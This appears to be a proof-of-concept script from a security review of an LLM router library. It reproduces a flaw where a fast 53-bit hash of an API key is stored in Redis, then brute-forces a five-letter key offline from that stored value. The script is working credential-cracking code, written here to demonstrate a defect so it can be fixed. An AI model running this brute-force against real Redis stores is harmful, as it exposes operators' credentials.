// F1 security: disabledBy (53 bits of a fast non-cryptographic hash of baseUrl, header name, key and headers) is
// written to Redis and published on the channel. For a low-entropy credential (a self-hosted vLLM's --api-key, a
// Basic-auth password in headers) anyone who can read the fleet's Redis recovers the key offline by brute force.
import { createRouter } from '/tmp/review19/repo/packages/core/dist/index.js';
import { createRedisStore } from '/tmp/review19/repo/packages/redis/dist/index.js';
import Redis from '/tmp/review19/repo/packages/redis/node_modules/ioredis/built/index.js';
const url = 'redis://127.0.0.1:6421';
const prefix = `r5-${Date.now()}:`;
const secret = 'kq' + 'zvx'; // 5 lowercase letters: the operator's chosen vLLM key
const baseUrl = 'http://vllm.internal:8000/v1';
const transport = async () => ({ status: 401, headers: { 'content-type': 'application/json' }, body: (async function* () { yield new TextEncoder().encode('{"error":{"message":"Invalid API key","code":"invalid_api_key"}}'); })(), cancel() {} });
const store = createRedisStore({ url, prefix }); await store.ready;
const router = createRouter({ endpoints: [{ name: 'vllm', baseUrl, apiKey: secret }], maxAttempts: 1 }, { transport, store });
try { await router.send({ path: '/chat/completions', body: '{"model":"m","messages":[{"role":"user","content":"hi"}]}' }); } catch {}
await new Promise((r) => setTimeout(r, 300));
const redis = new Redis(url);
const stored = await redis.hget(`{${prefix.slice(0, -1)}}:endpoint:vllm`, 'disabledBy');
console.log('disabledBy in Redis:', stored);
// The attacker: the hash is the open-source one (credential-fingerprint.ts); baseUrl is in the config/endpoint set.
const hash53 = (text) => { let first = 0xdeadbeef, second = 0x41c6ce57;
  for (let i = 0; i < text.length; i += 1) { const c = text.charCodeAt(i); first = Math.imul(first ^ c, 2654435761); second = Math.imul(second ^ c, 1597334677); }
  first = Math.imul(first ^ (first >>> 16), 2246822507) ^ Math.imul(second ^ (second >>> 13), 3266489909);
  second = Math.imul(second ^ (second >>> 16), 2246822507) ^ Math.imul(first ^ (first >>> 13), 3266489909);
  return (4294967296 * (2097151 & second) + (first >>> 0)).toString(36); };
const t0 = Date.now();
const letters = 'abcdefghijklmnopqrstuvwxyz';
let found;
outer: for (const a of letters) for (const b of letters) for (const c of letters) for (const d of letters) for (const e of letters) {
  const guess = a + b + c + d + e;
  if (hash53([baseUrl, 'authorization', guess].join('\n')) === stored) { found = guess; break outer; }
}
console.log(`recovered key ${JSON.stringify(found)} in ${Date.now() - t0} ms (expected: the stored value gives nothing usable about the key)`);
console.log(found === secret ? 'DEFECT REPRODUCED' : 'held');
await store.close(); redis.disconnect(); process.exit(0);
